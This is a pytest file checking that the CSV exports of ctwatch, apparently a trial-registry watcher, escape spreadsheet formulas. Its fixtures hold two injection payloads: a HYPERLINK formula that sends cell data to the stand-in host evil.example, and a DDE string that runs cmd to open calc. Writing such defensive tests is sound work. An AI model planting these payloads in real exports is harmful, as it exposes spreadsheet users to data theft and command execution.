"""``ctwatch changes --csv`` and ``ctwatch events --csv`` never carry a live formula:
record text such as ``=HYPERLINK(…)`` (a title, a why-stopped) is written as text, the
way the web UI's CSV writes it."""

from __future__ import annotations

import csv
import io
import sqlite3
from pathlib import Path

from tests.conftest import run_cli, write_config
from watcher.testing.registry_double import RegistryDouble
from watcher.testing.samples import changed, make_study

NCT = "NCT01234567"
TITLE = '=HYPERLINK("https://evil.example/?"&A1,"click")'
WHY = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_cli_csv_exports_neutralise_formulas(tmp_path: Path, registry: RegistryDouble) -> None:
    first = make_study(NCT, TITLE, status="RECRUITING")
    registry.put(first)
    config = write_config(tmp_path, registry.url, [NCT])
    assert run_cli(config, "check").exit_code == 0
    registry.put(changed(first, status="TERMINATED", why_stopped=WHY, last_update="2026-03-01"))
    assert run_cli(config, "check").exit_code == 0
    # no rule today begins a summary with record text; one that did must still be text
    with sqlite3.connect(tmp_path / "ctwatch.db") as conn:
        conn.execute("UPDATE events SET summary = ? WHERE type = 'status.changed'", [TITLE])
    changes = run_cli(config, "changes", "--csv")
    events = run_cli(config, "events", "--csv")
    assert changes.exit_code == 0 and events.exit_code == 0, (changes.stderr, events.stderr)
    for export in (changes.stdout, events.stdout):
        rows = _cells(export)
        assert rows
        for row in rows:
            for column, cell in row.items():
                assert not cell.startswith(FORMULA), (column, cell)
    changed_rows = _cells(changes.stdout)
    assert any(row["title"] == "'" + TITLE for row in changed_rows)
    assert any(row["new"] == "'" + WHY for row in changed_rows)  # the why-stopped, as text
    assert [row["summary"] for row in _cells(events.stdout) if row["type"] == "status.changed"] == [
        "'" + TITLE
    ]
